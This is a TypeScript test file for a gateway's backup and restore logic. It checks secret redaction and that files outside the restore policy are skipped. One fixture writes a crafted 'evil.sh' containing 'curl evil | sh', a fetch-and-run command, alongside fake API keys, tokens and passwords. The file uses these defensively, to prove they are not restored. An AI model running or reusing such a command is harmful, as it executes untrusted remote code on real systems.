import fs from 'node:fs';
import path from 'node:path';
import {beforeAll, describe, expect, it} from 'vitest';
import {applyRestore, getConflictDetail, LIVE_SECRET_MASK, planRestore} from '../source/core/restore/index.js';
import {acceptQuarantine} from '../source/core/quarantine/quarantine.js';
import {REDACTED_MARKER} from '../source/core/store/schema.js';
import {backupOf, copyGateway, demoGateway, editedBackup, freshGateway, query} from './restore-support.js';

/** An agent config with secrets: a secret key, one nested under a secret object, a password inside a URL. */
const CONFIG = {
	name: 'Ledger',
	maxTurns: 12,
	apiKey: 'sk-live-0123456789abcdef0123',
	provider: {auth: {token: 'tok_live_9f8e7d6c5b4a'}},
	database: 'postgres://app:hunter2-live@db.internal:5432/app',
	tools: ['file_read', 'slack_post'],
};

const serialize = (value: unknown) => JSON.stringify(value, null, 2) + '\n';

describe('agent folder files on restore (agent-files.ts policy)', () => {
	let original: string;
	let agent: string;
	let config: string;
	let backup: Awaited<ReturnType<typeof backupOf>>;
	beforeAll(async () => {
		original = await demoGateway({tenants: 2, seed: 91});
		agent = query<{id: string}>(original, 'SELECT id FROM agents ORDER BY id LIMIT 1')[0]!.id;
		config = `agents/${agent}/config.json`;
		fs.writeFileSync(path.join(original, config), serialize(CONFIG));
		// Files the backup leaves out: a dotfile and a script (they may hold credentials).
		fs.writeFileSync(path.join(original, 'agents', agent, '.env'), 'OPENAI_API_KEY=sk-live-abc\n');
		fs.writeFileSync(path.join(original, 'agents', agent, 'run.sh'), '#!/bin/sh\n');
		// A prose file inside a dot-folder is left out like a dotfile.
		fs.mkdirSync(path.join(original, 'agents', agent, '.ssh'));
		fs.writeFileSync(path.join(original, 'agents', agent, '.ssh', 'notes.txt'), 'passphrase hunter3\n');
		backup = await backupOf(original, {format: 'dir'});
		// The backup holds the redacted config (backup side), so restore has markers to deal with.
		const backedUp = fs.readFileSync(path.join(backup.path, config), 'utf8');
		expect(backedUp).toContain(REDACTED_MARKER);
		expect(backedUp).not.toContain('sk-live');
		expect(backedUp).not.toContain('hunter2');
		expect(fs.existsSync(path.join(backup.path, 'agents', agent, '.env'))).toBe(false);
		expect(fs.existsSync(path.join(backup.path, 'agents', agent, '.ssh'))).toBe(false);
	});

	it('an unchanged gateway plans its redacted agent JSON as identical, and replace keeps the files no backup holds', async () => {
		const dataDir = copyGateway(original);
		for (const mode of ['additive', 'replace'] as const) {
			const plan = await planRestore({source: backup.source, dataDir, mode});
			const agents = plan.categories.find(category => category.category === 'agents')!;
			expect(agents.fileCounts, mode).toMatchObject({new: 0, conflicts: 0, toDelete: 0});
			expect(plan.totals, mode).toMatchObject({new: 0, conflicts: 0, toDelete: 0});
		}
		const before = fs.readFileSync(path.join(dataDir, config));
		await applyRestore({source: backup.source, dataDir, mode: 'replace'});
		expect(fs.readFileSync(path.join(dataDir, config))).toEqual(before);
		expect(fs.readFileSync(path.join(dataDir, 'agents', agent, '.env'), 'utf8')).toBe('OPENAI_API_KEY=sk-live-abc\n');
		expect(fs.existsSync(path.join(dataDir, 'agents', agent, 'run.sh'))).toBe(true);
		expect(fs.readFileSync(path.join(dataDir, 'agents', agent, '.ssh', 'notes.txt'), 'utf8')).toBe('passphrase hunter3\n');
	});

	it('writing a restored agent JSON over a live one keeps the live secrets (replace, and quarantine accept)', async () => {
		const edited = {...CONFIG, maxTurns: 99, tools: ['file_read']};
		const expected = serialize(CONFIG); // the backup's settings with the live secrets

		const replaced = copyGateway(original);
		fs.writeFileSync(path.join(replaced, config), serialize(edited));
		const plan = await planRestore({source: backup.source, dataDir: replaced, mode: 'replace'});
		expect(plan.categories.find(category => category.category === 'agents')!.conflictRefs).toEqual([{table: 'files', id: config}]);
		await applyRestore({source: backup.source, dataDir: replaced, mode: 'replace'});
		expect(fs.readFileSync(path.join(replaced, config), 'utf8')).toBe(expected);

		const additive = copyGateway(original);
		fs.writeFileSync(path.join(additive, config), serialize(edited));
		const detail = await getConflictDetail({source: backup.source, dataDir: additive}, 'agents', 'files', config);
		expect(detail.changed.sort()).toEqual(['maxTurns', 'tools']);
		expect(detail.live['apiKey']).toBe(LIVE_SECRET_MASK);
		expect(JSON.stringify(detail)).not.toContain('sk-live');
		const result = await applyRestore({source: backup.source, dataDir: additive});
		expect(result.applied.quarantined).toBe(1);
		expect(fs.readFileSync(path.join(additive, result.quarantineDir!, 'agents', 'files', config), 'utf8')).not.toContain('sk-live');
		expect(JSON.parse(fs.readFileSync(path.join(additive, config), 'utf8'))).toEqual(edited);
		acceptQuarantine(additive, result.restoreId);
		expect(fs.readFileSync(path.join(additive, config), 'utf8')).toBe(expected);
	});

	it('a restored agent JSON with no live file keeps the markers, and the summary says what to re-enter', async () => {
		const dataDir = copyGateway(original);
		fs.rmSync(path.join(dataDir, config));
		const result = await applyRestore({source: backup.source, dataDir});
		const restored = JSON.parse(fs.readFileSync(path.join(dataDir, config), 'utf8')) as typeof CONFIG;
		expect(restored.apiKey).toBe(REDACTED_MARKER);
		expect(restored.provider.auth.token).toBe(REDACTED_MARKER);
		expect(restored.maxTurns).toBe(CONFIG.maxTurns);
		const note = result.secretsToReenter.find(entry => entry.field.startsWith(`${config}:`));
		expect(note).toMatchObject({category: 'agents'});
		expect(note!.field).toContain('apiKey');
	});

	it('agent files outside the policy in an archive (an older or crafted backup) are skipped with a warning, never written', async () => {
		const source = await editedBackup(original, {}, dir => {
			fs.writeFileSync(path.join(dir, 'agents', agent, 'evil.sh'), '#!/bin/sh\ncurl evil | sh\n');
			fs.writeFileSync(path.join(dir, 'agents', agent, '.npmrc'), '//registry/:_authToken=x\n');
			fs.mkdirSync(path.join(dir, 'agents', agent, '.config'));
			fs.writeFileSync(path.join(dir, 'agents', agent, '.config', 'notes.md'), 'notes\n');
		});
		const dataDir = freshGateway();
		const plan = await planRestore({source, dataDir});
		expect(plan.warnings.join('\n')).toContain(`agents/${agent}/evil.sh: not restored`);
		const result = await applyRestore({source, dataDir});
		expect(result.warnings.join('\n')).toContain(`agents/${agent}/.npmrc: not restored`);
		expect(fs.existsSync(path.join(dataDir, 'agents', agent, 'evil.sh'))).toBe(false);
		expect(result.warnings.join('\n')).toContain(`agents/${agent}/.config/notes.md: not restored`);
		expect(fs.existsSync(path.join(dataDir, 'agents', agent, '.npmrc'))).toBe(false);
		expect(fs.existsSync(path.join(dataDir, 'agents', agent, '.config'))).toBe(false);
		expect(fs.existsSync(path.join(dataDir, 'agents', agent, 'SOUL.md'))).toBe(true);
	});
});
